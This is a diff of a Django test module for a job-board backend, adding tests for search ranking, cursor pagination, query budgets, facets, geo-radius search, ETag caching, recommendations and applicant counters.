@@ -1,14 +1,85 @@
-from .factories import JobBookmarkFactory, JobFactory, JobApplicationFactory
+import csv
+import json
+import time
+import uuid
+from io import StringIO
+from unittest import mock
+from datetime import timedelta
+from django.utils import timezone
+from .factories import (
+    JobBookmarkFactory,
+    JobFactory,
+    JobApplicationFactory,
+    JobRequirementFactory,
+    JobResponsibilityFactory,
+)
 from users.factories import ResumeFactory, UserFactory
+from users.models import Resume
 from rest_framework.test import APITestCase, APIClient
+from django.core.cache import cache
+from django.db import connection, transaction
+from django.db.models.signals import post_save
+from django.test import (
+    SimpleTestCase,
+    TestCase,
+    TransactionTestCase,
+    override_settings,
+)
+from cities_light.signals import city_items_post_import
+from redis.exceptions import ConnectionError as RedisConnectionError
 from rest_framework import status
 from django.urls import reverse
-from .models import Job, JobApplication
+from django.core.exceptions import ValidationError as DjangoValidationError
+from django.core.management import call_command
+from django.core.management.base import CommandError
+from .models import (
+    AIDetectionResult,
+    HiringFunnel,
+    Job,
+    JobApplication,
+    JobCard,
+    OutboxMessage,
+)
+from .facets import compute_job_facets, get_job_facets, invalidate_job_facets
+from .services import (
+    AIDetectionUnavailable,
+    AsyncZeroGPTClient,
+    CircuitBreaker,
+    ZeroGPTClient,
+    zerogpt_breaker,
+)
+from .stylometry import local_scores, stylometric_features
+from .zerogpt_stub import ZeroGPTStubServer
+from .outbox import enqueue, relay_outbox
+from .tasks import score_pending_applications_task
+from . import detection
+from .detection import (
+    PENDING_DETECTION,
+    claim_pending_applications,
+    detect_ai_report,
+    report_score,
+    SCORE_TASK,
+    score_pending_applications,
+    text_digest,
+)
+from .recommend import RecommendationIndex
+from .counters import (
+    PENDING_APPLICANTS_KEY,
+    flush_applicant_counts,
+    pending_applicant_counts,
+)
+from django_redis import get_redis_connection
+from job_board.response_cache import JOB_DETAIL, response_cache_stats
 from faker import Faker
+from celery import Celery
+from celery.contrib.testing.worker import start_worker
+from kombu.exceptions import OperationalError
 from company.factories import (
     CompanyFactory,
     CompanyManagerFactory,
     CompanyOfficeFactory,
+    CountryFactory,
+    CityFactory,
 )
 
 
@@ -27,9 +98,9 @@ class JobBookmarkTests(APITestCase):
         list_url = reverse("list-bookmarks")
         response = self.client.get(list_url, format="json")
         self.assertEqual(response.status_code, status.HTTP_200_OK)
-        self.assertEqual(len(response.data), 1)
+        self.assertEqual(len(response.data["results"]), 1)
         self.assertTrue(
-            response.data[0]["job"].endswith(
+            response.data["results"][0]["job"].endswith(
                 reverse("job-detail-update", args=[job.id])
             )
         )
@@ -47,7 +118,7 @@ class JobBookmarkTests(APITestCase):
         list_url = reverse("list-bookmarks")
         response = self.client.get(list_url, format="json")
         self.assertEqual(response.status_code, status.HTTP_200_OK)
-        self.assertEqual(len(response.data), 0)
+        self.assertEqual(len(response.data["results"]), 0)
 
     def test_delete_unowned_job_bookmark(self):
         self.client = APIClient()
@@ -136,6 +207,36 @@ class JobApplicationTests(APITestCase):
             "You've already applied to this job." in data.get("non_field_errors", [])
         )
 
+    def test_apply_is_a_single_query(self):
+        data = {"job": self.job.id, "resume": self.resume.id, "cover_letter": "Hi"}
+        with self.captureOnCommitCallbacks() as callbacks:
+            with self.assertNumQueries(1):
+                response = self.client.post(self.apply_job_url, data, format="json")
+        self.assertEqual(response.status_code, status.HTTP_201_CREATED)
+        self.assertEqual(response.data, data)
+        # post_save receivers still run: the applicant is counted on commit
+        self.assertEqual(len(callbacks), 1)
+
+    def test_retry_with_idempotency_key_is_replayed(self):
+        data = {"job": self.job.id, "resume": self.resume.id, "cover_letter": "Hi"}
+        headers = {"Idempotency-Key": "a5f0c9"}
+        first = self.client.post(
+            self.apply_job_url, data, format="json", headers=headers
+        )
+        retry = self.client.post(
+            self.apply_job_url, data, format="json", headers=headers
+        )
+        self.assertEqual(retry.status_code, status.HTTP_201_CREATED)
+        self.assertEqual(retry.data, first.data)
+        self.assertEqual(retry["Idempotent-Replayed"], "true")
+        self.assertEqual(JobApplication.objects.filter(user=self.user).count(), 1)
+
+        data["job"] = JobFactory().id
+        response = self.client.post(
+            self.apply_job_url, data, format="json", headers=headers
+        )
+        self.assertEqual(response.status_code, status.HTTP_422_UNPROCESSABLE_ENTITY)
+
 
 class JobCreationTests(APITestCase):
     def setUp(self):
@@ -294,6 +395,40 @@ class UpdateJobApplicationStatusTests(APITestCase):
             response = self.client.patch(self.update_url, data=data, format="json")
             self.assertEqual(response.status_code, st["status_code"])
 
+    def test_transition_is_a_single_query(self):
+        with self.assertNumQueries(1):
+            response = self.client.patch(
+                self.update_url, {"status": "I"}, format="json"
+            )
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(response.data, {"status": "I"})
+        self.job_application.refresh_from_db()
+        self.assertEqual(self.job_application.status, "I")
+
+    def test_concurrent_change_is_a_conflict(self):
+        JobApplication.objects.filter(pk=self.job_application.pk).update(status="R")
+        response = self.client.patch(
+            self.update_url, {"status": "I", "expected_status": "A"}, format="json"
+        )
+        self.assertEqual(response.status_code, status.HTTP_409_CONFLICT)
+        self.job_application.refresh_from_db()
+        self.assertEqual(self.job_application.status, "R")
+
+    def test_missing_application(self):
+        url = reverse("job-application-update", args=[0])
+        response = self.client.patch(url, {"status": "I"}, format="json")
+        self.assertEqual(response.status_code, status.HTTP_404_NOT_FOUND)
+
+    def test_model_validates_transitions_without_a_query(self):
+        application = JobApplication.objects.get(pk=self.job_application.pk)
+        application.status = "H"
+        with self.assertNumQueries(0):
+            application.clean()
+        application.save()
+        application.status = "I"
+        with self.assertRaises(DjangoValidationError):
+            application.clean()
+
 
 class JobUpdateTests(APITestCase):
     def setUp(self):
@@ -406,7 +541,7 @@ class ListJobApplicationsForSpecificJobTests(APITestCase):
         response = self.client.get(self.list_url)
         self.assertEqual(response.status_code, 200)
         data = response.json()
-        self.assertEqual(len(data), 2)
+        self.assertEqual(len(data["results"]), 2)
 
     def test_getting_applications_with_an_un_manager_user(self):
         """test a non-company manager getting job applications"""
@@ -420,3 +555,1383 @@ class ListJobApplicationsForSpecificJobTests(APITestCase):
         self.client.force_authenticate(user=None)
         response = self.client.get(self.list_url)
         self.assertEqual(response.status_code, 401)
+
+
+class JobSearchTests(APITestCase):
+    def setUp(self):
+        self.python_job = JobFactory(
+            title="Senior Python Developer", overview="Build web services."
+        )
+        self.mention_job = JobFactory(
+            title="Backend Engineer", overview="Some Python scripting is a plus."
+        )
+        self.other_job = JobFactory(
+            title="Graphic Designer", overview="Design marketing material."
+        )
+        self.search_url = reverse("job-search")
+
+    def search(self, query):
+        response = self.client.get(self.search_url, {"q": query})
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        return [job["id"] for job in response.json()["results"]]
+
+    def test_search_ranks_title_matches_first(self):
+        self.assertEqual(
+            self.search("python"), [self.python_job.id, self.mention_job.id]
+        )
+
+    def test_search_matches_requirements(self):
+        self.assertEqual(self.search("kubernetes"), [])
+        requirement = JobRequirementFactory(
+            job=self.other_job, description="Experience with Kubernetes"
+        )
+        self.assertEqual(self.search("kubernetes"), [self.other_job.id])
+        requirement.delete()
+        self.assertEqual(self.search("kubernetes"), [])
+
+    def test_search_vector_follows_job_updates(self):
+        self.other_job.title = "Python Designer"
+        self.other_job.save()
+        self.assertIn(self.other_job.id, self.search("python"))
+
+    def test_listing_without_query_returns_newest_first(self):
+        self.assertEqual(
+            self.search(""),
+            [self.other_job.id, self.mention_job.id, self.python_job.id],
+        )
+
+
+class KeysetPaginationTests(APITestCase):
+    def setUp(self):
+        self.user = UserFactory()
+        self.client.force_authenticate(user=self.user)
+
+    def walk(self, url, params):
+        pages = []
+        response = self.client.get(url, params)
+        while True:
+            self.assertEqual(response.status_code, status.HTTP_200_OK)
+            pages.append(response.data)
+            if response.data["next"] is None:
+                return pages
+            response = self.client.get(response.data["next"])
+
+    def test_job_listing_is_paged_by_cursor(self):
+        jobs = JobFactory.create_batch(3)
+        pages = self.walk(reverse("job-search"), {"page_size": 2})
+        self.assertNotIn("count", pages[0])
+        ids = [row["id"] for page in pages for row in page["results"]]
+        self.assertEqual(ids, [job.id for job in reversed(jobs)])
+
+        # ranked search keeps page numbers
+        response = self.client.get(reverse("job-search"), {"q": "x", "page": 1})
+        self.assertEqual(response.data["count"], 0)
+
+    def test_bookmarks_are_paged_newest_first(self):
+        bookmarks = JobBookmarkFactory.create_batch(5, user=self.user)
+        pages = self.walk(reverse("list-bookmarks"), {"page_size": 2})
+
+        self.assertEqual([len(page["results"]) for page in pages], [2, 2, 1])
+        self.assertIsNone(pages[0]["previous"])
+        ids = [row["id"] for page in pages for row in page["results"]]
+        self.assertEqual(ids, [bookmark.id for bookmark in reversed(bookmarks)])
+
+        response = self.client.get(pages[2]["previous"])
+        self.assertEqual(response.data["results"], pages[1]["results"])
+
+    def test_applicants_are_paged_by_ai_score_with_nulls_last(self):
+        manager = UserFactory()
+        job = JobFactory(created_by=manager)
+        CompanyManagerFactory(company=job.company, manager=manager)
+        scores = [None, 10.0, 10.0, None, 5.0]
+        applications = [JobApplicationFactory(job=job) for _ in scores]
+        for application, score in zip(applications, scores):
+            JobApplication.objects.filter(pk=application.pk).update(
+                is_cover_letter_ai_generated=score
+            )
+
+        self.client.force_authenticate(user=manager)
+        pages = self.walk(
+            reverse("list-job-applications", args=[job.id]), {"page_size": 2}
+        )
+        users = [row["user"]["id"] for page in pages for row in page["results"]]
+        expected = [applications[i].user_id for i in (4, 1, 2, 0, 3)]
+        self.assertEqual(users, expected)
+
+    def test_invalid_cursor(self):
+        response = self.client.get(reverse("list-bookmarks"), {"cursor": "garbage"})
+        self.assertEqual(response.status_code, status.HTTP_404_NOT_FOUND)
+
+
+class JobQueryBudgetTests(APITestCase):
+    """The number of queries per request must not grow with related rows."""
+
+    def setUp(self):
+        self.manager = UserFactory()
+        self.company = CompanyFactory()
+        CompanyManagerFactory(company=self.company, manager=self.manager)
+        self.job = JobFactory(
+            company_office=CompanyOfficeFactory(company=self.company),
+            created_by=self.manager,
+        )
+
+    def add_related_rows(self, count):
+        CompanyOfficeFactory.create_batch(count, company=self.company)
+        JobRequirementFactory.create_batch(count, job=self.job)
+        JobResponsibilityFactory.create_batch(count, job=self.job)
+        JobApplicationFactory.create_batch(count, job=self.job)
+
+    def test_job_detail_query_budget(self):
+        url = reverse("job-detail-update", args=[self.job.id])
+        for count in (1, 5):
+            with self.captureOnCommitCallbacks(execute=True):
+                self.add_related_rows(count)
+            # validators, job, offices, requirements, responsibilities
+            with self.assertNumQueries(5):
+                response = self.client.get(url)
+            self.assertEqual(response.status_code, status.HTTP_200_OK)
+
+    def test_job_search_query_budget(self):
+        url = reverse("job-search")
+        for count in (1, 5):
+            JobFactory.create_batch(count)
+            # page, facets (the job writes expire the cached facets)
+            with self.assertNumQueries(2):
+                response = self.client.get(url)
+            self.assertEqual(response.status_code, status.HTTP_200_OK)
+
+    def test_job_applications_list_query_budget(self):
+        url = reverse("list-job-applications", args=[self.job.id])
+        self.client.force_authenticate(user=self.manager)
+        for count in (1, 5):
+            self.add_related_rows(count)
+            with self.assertNumQueries(3):
+                response = self.client.get(url)
+            self.assertEqual(response.status_code, status.HTTP_200_OK)
+
+
+class JobFacetTests(APITestCase):
+    def setUp(self):
+        invalidate_job_facets()
+        self.egypt = CountryFactory(name="Egypt")
+        self.germany = CountryFactory(name="Germany")
+        cairo = CompanyOfficeFactory(
+            country=self.egypt, city=CityFactory(country=self.egypt)
+        )
+        berlin = CompanyOfficeFactory(
+            country=self.germany, city=CityFactory(country=self.germany)
+        )
+        self.remote_job = JobFactory(
+            company_office=cairo,
+            job_type=Job.JobType.FULL_TIME,
+            work_place=Job.WorkPlace.REMOTE,
+            salary_start_from=40000,
+        )
+        JobFactory(
+            company_office=cairo,
+            job_type=Job.JobType.PART_TIME,
+            work_place=Job.WorkPlace.REMOTE,
+            salary_start_from=120000,
+            salary_end=150000,
+        )
+        JobFactory(
+            company_office=berlin,
+            job_type=Job.JobType.FULL_TIME,
+            work_place=Job.WorkPlace.OFFICE,
+            salary_start_from=60000,
+        )
+        self.search_url = reverse("job-search")
+
+    def counts(self, facets, name):
+        return {bucket["value"]: bucket["count"] for bucket in facets[name]}
+
+    def test_facets_are_returned_with_results(self):
+        response = self.client.get(self.search_url)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        facets = response.json()["facets"]
+        self.assertEqual(facets["total"], 3)
+        self.assertEqual(self.counts(facets, "job_type"), {"FT": 2, "PT": 1})
+        self.assertEqual(self.counts(facets, "work_place"), {"RE": 2, "OF": 1, "HY": 0})
+        self.assertEqual(
+            self.counts(facets, "salary_band"),
+            {"0-50k": 1, "50k-100k": 1, "100k-150k": 1, "150k+": 0},
+        )
+        self.assertEqual(
+            facets["country"],
+            [
+                {"value": self.egypt.id, "label": "Egypt", "count": 2},
+                {"value": self.germany.id, "label": "Germany", "count": 1},
+            ],
+        )
+
+    def test_facets_follow_the_current_filters(self):
+        response = self.client.get(self.search_url, {"work_place": "RE"})
+        data = response.json()
+        self.assertEqual(len(data["results"]), 2)
+        self.assertEqual(data["facets"]["total"], 2)
+        self.assertEqual(self.counts(data["facets"], "job_type"), {"FT": 1, "PT": 1})
+        self.assertEqual(self.counts(data["facets"], "country"), {self.egypt.id: 2})
+
+    def test_facets_are_computed_in_one_query(self):
+        with self.assertNumQueries(1):
+            compute_job_facets({"job_type": "FT", "country": self.egypt.id})
+
+    def test_facets_are_cached_until_a_job_changes(self):
+        get_job_facets({})
+        with self.assertNumQueries(0):
+            facets = get_job_facets({})
+        self.assertEqual(self.counts(facets, "job_type"), {"FT": 2, "PT": 1})
+
+        self.remote_job.job_type = Job.JobType.PART_TIME
+        self.remote_job.save()
+        facets = get_job_facets({})
+        self.assertEqual(self.counts(facets, "job_type"), {"FT": 1, "PT": 2})
+
+    def test_invalid_filter(self):
+        response = self.client.get(self.search_url, {"job_type": "XX"})
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+
+
+class JobGeoRadiusSearchTests(APITestCase):
+    def setUp(self):
+        egypt = CountryFactory(name="Egypt")
+        self.cairo = CityFactory(
+            name="Cairo", country=egypt, latitude=30.04442, longitude=31.23571
+        )
+        giza = CityFactory(
+            name="Giza", country=egypt, latitude=30.00808, longitude=31.21093
+        )
+        alexandria = CityFactory(
+            name="Alexandria", country=egypt, latitude=31.20176, longitude=29.91582
+        )
+        self.giza_job = JobFactory(
+            company_office=CompanyOfficeFactory(country=egypt, city=giza)
+        )
+        self.cairo_job = JobFactory(
+            company_office=CompanyOfficeFactory(country=egypt, city=self.cairo)
+        )
+        self.alexandria_job = JobFactory(
+            company_office=CompanyOfficeFactory(country=egypt, city=alexandria)
+        )
+        self.search_url = reverse("job-search")
+
+    def search(self, **params):
+        response = self.client.get(self.search_url, params)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        return response.json()["results"]
+
+    def test_jobs_within_radius_sorted_by_distance(self):
+        results = self.search(near_city=self.cairo.id, radius_km=20)
+        self.assertEqual(
+            [job["id"] for job in results], [self.cairo_job.id, self.giza_job.id]
+        )
+        self.assertAlmostEqual(results[0]["distance_km"], 0, places=3)
+        self.assertAlmostEqual(results[1]["distance_km"], 4.69, places=2)
+
+        results = self.search(near_city=self.cairo.id, radius_km=250)
+        self.assertEqual(
+            [job["id"] for job in results],
+            [self.cairo_job.id, self.giza_job.id, self.alexandria_job.id],
+        )
+
+    def test_office_coordinates_follow_the_city(self):
+        self.cairo.latitude, self.cairo.longitude = 31.2, 29.9
+        self.cairo.save()
+        results = self.search(near_city=self.cairo.id, radius_km=20)
+        self.assertEqual(
+            [job["id"] for job in results], [self.cairo_job.id, self.alexandria_job.id]
+        )
+
+    def test_imported_cities_are_synced_by_the_rebuild(self):
+        self.cairo.latitude, self.cairo.longitude = 31.2, 29.9
+        city_items_post_import.send(sender=None, instance=self.cairo, items=[])
+        with self.assertNumQueries(1):
+            self.cairo.save()
+        results = self.search(near_city=self.cairo.id, radius_km=20)
+        self.assertEqual([job["id"] for job in results], [self.alexandria_job.id])
+
+        call_command("rebuild_job_cards", stdout=StringIO())
+        results = self.search(near_city=self.cairo.id, radius_km=20)
+        self.assertEqual(
+            [job["id"] for job in results], [self.cairo_job.id, self.alexandria_job.id]
+        )
+
+    def test_radius_search_across_the_antimeridian(self):
+        fiji = CountryFactory(name="Fiji")
+        taveuni = CityFactory(
+            name="Taveuni", country=fiji, latitude=-16.85, longitude=179.95
+        )
+        east = CityFactory(name="East", country=fiji, latitude=-16.85, longitude=-179.9)
+        east_job = JobFactory(
+            company_office=CompanyOfficeFactory(country=fiji, city=east)
+        )
+        results = self.search(near_city=taveuni.id, radius_km=50)
+        self.assertEqual([job["id"] for job in results], [east_job.id])
+
+    def test_city_without_coordinates(self):
+        city = CityFactory()
+        response = self.client.get(self.search_url, {"near_city": city.id})
+        self.assertEqual(response.status_code, status.HTTP_400_BAD_REQUEST)
+
+
+class JobDetailCacheTests(APITestCase):
+    def setUp(self):
+        # drops entries of an earlier run cached under the same id
+        with self.captureOnCommitCallbacks(execute=True):
+            self.job = JobFactory()
+        self.url = reverse("job-detail-update", args=[self.job.id])
+
+    def get(self, expected_cache):
+        response = self.client.get(self.url)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        self.assertEqual(response["X-Cache"], expected_cache)
+        return response.json()
+
+    def test_repeated_requests_are_served_from_cache(self):
+        before = response_cache_stats(JOB_DETAIL)
+        data = self.get("MISS")
+        # only the ETag / Last-Modified validators hit the database
+        with self.assertNumQueries(1):
+            self.assertEqual(self.get("HIT"), data)
+        after = response_cache_stats(JOB_DETAIL)
+        self.assertEqual(after["misses"], before["misses"] + 1)
+        self.assertEqual(after["hits"], before["hits"] + 1)
+
+    def test_job_change_invalidates_cache(self):
+        self.get("MISS")
+        with self.captureOnCommitCallbacks(execute=True):
+            self.job.title = "Updated Title"
+            self.job.save()
+            # kept until the change commits, so it cannot be cached again
+            # from the old row in the meantime
+            self.get("HIT")
+        self.assertEqual(self.get("MISS")["title"], "Updated Title")
+
+    def test_requirement_change_invalidates_cache(self):
+        self.get("MISS")
+        with self.captureOnCommitCallbacks(execute=True):
+            requirement = JobRequirementFactory(job=self.job, description="Docker")
+        self.assertEqual(self.get("MISS")["requirements"], [{"description": "Docker"}])
+        with self.captureOnCommitCallbacks(execute=True):
+            requirement.delete()
+        self.assertEqual(self.get("MISS")["requirements"], [])
+
+    def test_company_office_change_invalidates_cache(self):
+        self.get("MISS")
+        with self.captureOnCommitCallbacks(execute=True):
+            CompanyOfficeFactory(company=self.job.company)
+        self.assertEqual(len(self.get("MISS")["company"]["offices"]), 2)
+
+
+class JobConditionalGetTests(APITestCase):
+    def setUp(self):
+        self.job = JobFactory()
+        self.url = reverse("job-detail-update", args=[self.job.id])
+
+    def test_matching_etag_returns_not_modified_in_one_query(self):
+        etag = self.client.get(self.url)["ETag"]
+        self.assertFalse(etag.startswith("W/"))
+        with self.assertNumQueries(1):
+            response = self.client.get(self.url, HTTP_IF_NONE_MATCH=etag)
+        self.assertEqual(response.status_code, status.HTTP_304_NOT_MODIFIED)
+        self.assertEqual(response["ETag"], etag)
+        self.assertFalse(response.content)
+
+    def test_if_modified_since(self):
+        last_modified = self.client.get(self.url)["Last-Modified"]
+        response = self.client.get(self.url, HTTP_IF_MODIFIED_SINCE=last_modified)
+        self.assertEqual(response.status_code, status.HTTP_304_NOT_MODIFIED)
+
+    def test_etag_changes_with_related_rows(self):
+        etags = [self.client.get(self.url)["ETag"]]
+        requirement = JobRequirementFactory(job=self.job)
+        etags.append(self.client.get(self.url)["ETag"])
+        requirement.delete()
+        etags.append(self.client.get(self.url)["ETag"])
+        CompanyOfficeFactory(company=self.job.company)
+        response = self.client.get(self.url, HTTP_IF_NONE_MATCH=etags[-1])
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        etags.append(response["ETag"])
+        # deleting the requirement restores the original representation
+        self.assertEqual(etags[2], etags[0])
+        self.assertEqual(len(set(etags)), 3)
+
+    def test_missing_job(self):
+        response = self.client.get(reverse("job-detail-update", args=[0]))
+        self.assertEqual(response.status_code, status.HTTP_404_NOT_FOUND)
+
+
+class JobCardTests(APITestCase):
+    def setUp(self):
+        country = CountryFactory(name="Egypt")
+        self.city = CityFactory(name="Cairo", country=country)
+        self.office = CompanyOfficeFactory(city=self.city, country=country)
+        self.job = JobFactory(
+            title="Python Developer",
+            company=self.office.company,
+            company_office=self.office,
+        )
+
+    def card(self):
+        return JobCard.objects.get(job=self.job)
+
+    def test_card_is_created_with_the_job(self):
+        card = self.card()
+        self.assertEqual(card.title, "Python Developer")
+        self.assertEqual(card.company_name, self.office.company.name)
+        self.assertEqual((card.city_name, card.country_name), ("Cairo", "Egypt"))
+        self.assertEqual(card.salary_end, self.job.salary_end)
+
+    def test_card_follows_related_changes(self):
+        self.job.title = "Go Developer"
+        self.job.save()
+        company = self.job.company
+        company.name = "Renamed"
+        company.save()
+        self.city.name = "New Cairo"
+        self.city.save()
+        self.office.city = CityFactory(name="Giza", country=self.city.country)
+        self.office.save()
+        card = self.card()
+        self.assertEqual(card.title, "Go Developer")
+        self.assertEqual(card.company_name, "Renamed")
+        self.assertEqual(card.city_name, "Giza")
+
+    def test_partial_saves_refresh_the_card(self):
+        self.job.company_office = CompanyOfficeFactory(
+            company=self.job.company, city=CityFactory(name="Giza")
+        )
+        self.job.save(update_fields=["company_office"])
+        self.assertEqual(self.card().city_name, "Giza")
+        self.job.salary_end += 1000
+        self.job.save(update_fields=["salary_end"])
+        self.assertEqual(self.card().salary_end, self.job.salary_end)
+
+    def test_place_imports_skip_the_refresh(self):
+        self.city.name = "New Cairo"
+        city_items_post_import.send(sender=None, instance=self.city, items=[])
+        self.city.save()
+        self.assertEqual(self.card().city_name, "Cairo")
+
+        # fixtures are loaded with raw saves
+        self.city.refresh_from_db()
+        post_save.send(
+            sender=type(self.city), instance=self.city, created=False, raw=True
+        )
+        self.assertEqual(self.card().city_name, "Cairo")
+
+    def test_jobs_without_a_card_are_listed(self):
+        JobCard.objects.all().delete()
+        result = self.client.get(reverse("job-search")).json()["results"][0]
+        self.assertEqual(result["id"], self.job.id)
+        self.assertNotIn("title", result)
+
+    def test_rebuild_command(self):
+        JobCard.objects.all().delete()
+        Job.objects.filter(pk=self.job.pk).update(title="Updated In Bulk")
+        call_command("rebuild_job_cards", stdout=StringIO())
+        self.assertEqual(self.card().title, "Updated In Bulk")
+
+    def test_search_and_bookmarks_read_the_card(self):
+        user = UserFactory()
+        JobBookmarkFactory(user=user, job=self.job)
+        result = self.client.get(reverse("job-search")).json()["results"][0]
+        self.assertEqual(result["city_name"], "Cairo")
+        self.assertEqual(result["job_type"], self.job.get_job_type_display())
+
+        self.client.force_authenticate(user=user)
+        JobBookmarkFactory.create_batch(3, user=user)
+        with self.assertNumQueries(1):
+            response = self.client.get(reverse("list-bookmarks"))
+        card = response.data["results"][-1]["card"]
+        self.assertEqual(card["id"], self.job.id)
+        self.assertEqual(card["title"], "Python Developer")
+
+
+class RecommendedJobsTests(APITestCase):
+    def setUp(self):
+        self.user = UserFactory()
+        self.url = reverse("recommended-jobs")
+        # a fresh index: rolled back jobs of other tests are never logged
+        patcher = mock.patch("job.recommend._index", None)
+        patcher.start()
+        self.addCleanup(patcher.stop)
+        with self.captureOnCommitCallbacks(execute=True):
+            self.python_job = JobFactory(
+                title="Python Developer", overview="Django and PostgreSQL services."
+            )
+            self.data_job = JobFactory(
+                title="Data Engineer", overview="Python pipelines with Spark."
+            )
+            self.design_job = JobFactory(
+                title="Graphic Designer", overview="Figma and illustration work."
+            )
+        self.client.force_authenticate(user=self.user)
+
+    def recommend(self, **params):
+        response = self.client.get(self.url, params)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        return response.json()["results"]
+
+    def test_jobs_are_ranked_against_the_latest_resume(self):
+        ResumeFactory(user=self.user, content="Graphic design, Figma.")
+        ResumeFactory(user=self.user, content="Python developer: Django, PostgreSQL")
+        results = self.recommend()
+        self.assertEqual(
+            [job["id"] for job in results], [self.python_job.id, self.data_job.id]
+        )
+        self.assertGreater(results[0]["rank"], results[1]["rank"])
+        self.assertEqual(len(self.recommend(limit=1)), 1)
+
+    def test_index_follows_job_changes(self):
+        ResumeFactory(user=self.user, content="Kubernetes operator")
+        self.assertEqual(self.recommend(), [])
+        with self.captureOnCommitCallbacks(execute=True):
+            JobRequirementFactory(job=self.design_job, description="Kubernetes")
+        self.assertEqual([job["id"] for job in self.recommend()], [self.design_job.id])
+        with self.captureOnCommitCallbacks(execute=True):
+            self.design_job.delete()
+        self.assertEqual(self.recommend(), [])
+
+    def test_applied_jobs_are_skipped(self):
+        ResumeFactory(user=self.user, content="Python")
+        JobApplicationFactory(user=self.user, job=self.python_job)
+        self.assertEqual([job["id"] for job in self.recommend()], [self.data_job.id])
+
+    def test_without_an_analyzed_resume(self):
+        ResumeFactory(user=self.user)
+        response = self.client.get(self.url)
+        self.assertEqual(response.status_code, status.HTTP_404_NOT_FOUND)
+
+
+class RecommendationIndexTests(TestCase):
+    def setUp(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            self.jobs = [
+                JobFactory(title="Python Developer", overview="Django services."),
+                JobFactory(title="Data Engineer", overview="Spark pipelines."),
+            ]
+        self.index = RecommendationIndex()
+        self.index.sync()
+
+    def ranked(self, text):
+        job_ids, scores = self.index.score(text)
+        return [int(job_id) for job_id in job_ids[scores > 0]]
+
+    @mock.patch("job.recommend.MERGE_FRACTION", 1)
+    def test_changes_are_applied_incrementally(self):
+        python_job, data_job = self.jobs
+        with self.captureOnCommitCallbacks(execute=True):
+            data_job.overview = "Kafka and Python pipelines."
+            data_job.save()
+        # only the changed vector is read
+        with self.assertNumQueries(1):
+            self.index.sync()
+        self.assertEqual(self.index.arrays.delta.job_ids.tolist(), [data_job.id])
+        self.assertEqual(self.ranked("kafka"), [data_job.id])
+        self.assertEqual(
+            sorted(self.ranked("python")), sorted([python_job.id, data_job.id])
+        )
+
+        with self.captureOnCommitCallbacks(execute=True):
+            data_job.delete()
+        self.index.sync()
+        self.assertEqual(self.ranked("kafka python"), [python_job.id])
+        kafka = self.index.vocabulary["kafka"]
+        self.assertEqual(self.index.document_frequency[kafka], 0)
+
+    def test_large_deltas_are_merged(self):
+        with mock.patch("job.recommend.MERGE_FRACTION", 0):
+            with self.captureOnCommitCallbacks(execute=True):
+                JobFactory(title="Kafka Engineer")
+            self.index.sync()
+        self.assertEqual(len(self.index.arrays.delta.job_ids), 0)
+        self.assertTrue(self.index.arrays.live.all())
+        self.assertEqual(len(self.ranked("kafka")), 1)
+
+
+class ApplicantCounterTests(APITestCase):
+    def setUp(self):
+        get_redis_connection("default").delete(PENDING_APPLICANTS_KEY)
+        self.job = JobFactory(number_of_applicants=0)
+
+    def test_creations_are_counted_and_flushed_in_batches(self):
+        other_job = JobFactory(number_of_applicants=0)
+        with self.captureOnCommitCallbacks(execute=True):
+            JobApplicationFactory.create_batch(2, job=self.job)
+            application = JobApplicationFactory(job=other_job)
+        self.assertEqual(pending_applicant_counts(), {self.job.id: 2, other_job.id: 1})
+        self.job.refresh_from_db()
+        self.assertEqual(self.job.number_of_applicants, 0)
+
+        with self.captureOnCommitCallbacks(execute=True):
+            application.status = JobApplication.JobApplicationStatus.INVITED
+            application.save()
+        with self.assertNumQueries(4):  # savepoint, two UPDATEs, release
+            self.assertEqual(flush_applicant_counts(), 2)
+        self.assertEqual(pending_applicant_counts(), {})
+        self.assertEqual(flush_applicant_counts(), 0)
+
+        self.job.refresh_from_db()
+        other_job.refresh_from_db()
+        self.assertEqual(self.job.number_of_applicants, 2)
+        self.assertEqual(other_job.number_of_applicants, 1)
+
+    def test_redis_errors_do_not_fail_the_commit(self):
+        redis = mock.Mock()
+        redis.hincrby.side_effect = RedisConnectionError
+        with mock.patch("job.counters.get_redis_connection", return_value=redis):
+            with self.captureOnCommitCallbacks(execute=True):
+                JobApplicationFactory(job=self.job)
+                after = mock.Mock()
+                transaction.on_commit(after)
+        redis.hincrby.assert_called_once()
+        after.assert_called_once()  # the callbacks after it still ran
+        self.assertTrue(JobApplication.objects.filter(job=self.job).exists())
+
+    def test_reconcile_command(self):
+        JobApplicationFactory.create_batch(3, job=self.job)
+        Job.objects.filter(pk=self.job.pk).update(number_of_applicants=7)
+        out = StringIO()
+        call_command("reconcile_applicant_counts", stdout=out)
+        self.job.refresh_from_db()
+        self.assertEqual(self.job.number_of_applicants, 3)
+        self.assertIn("1 jobs", out.getvalue())
+
+
+class JobApplicationBulkStatusTests(APITestCase):
+    def setUp(self):
+        self.manager = UserFactory()
+        self.company = CompanyFactory()
+        CompanyManagerFactory(company=self.company, manager=self.manager)
+        self.job = JobFactory(
+            company=self.company,
+            company_office=CompanyOfficeFactory(company=self.company),
+        )
+        self.url = reverse("bulk-update-job-applications-status", args=[self.job.id])
+        self.client.force_authenticate(user=self.manager)
+
+    def post(self, ids, new_status="R"):
+        return self.client.post(
+            self.url, {"ids": ids, "status": new_status}, format="json"
+        )
+
+    def test_allowed_applications_move_in_one_batch(self):
+        applied = JobApplicationFactory.create_batch(3, job=self.job)
+        hired = JobApplicationFactory(job=self.job, status="H")
+        other_job = JobApplicationFactory()
+        ids = [a.id for a in applied] + [hired.id, other_job.id]
+
+        response = self.post(ids)
+        self.assertEqual(response.status_code, status.HTTP_200_OK)
+        moved = sorted(a.id for a in applied)
+        self.assertEqual(response.data["updated"], moved)
+        self.assertEqual(response.data["skipped"], sorted([hired.id, other_job.id]))
+        self.assertEqual(
+            set(JobApplication.objects.filter(pk__in=ids).values_list("status")),
+            {("R",), ("H",), ("A",)},
+        )
+
+        # already rejected: nothing moves
+        self.assertEqual(self.post(moved).data["updated"], [])
+
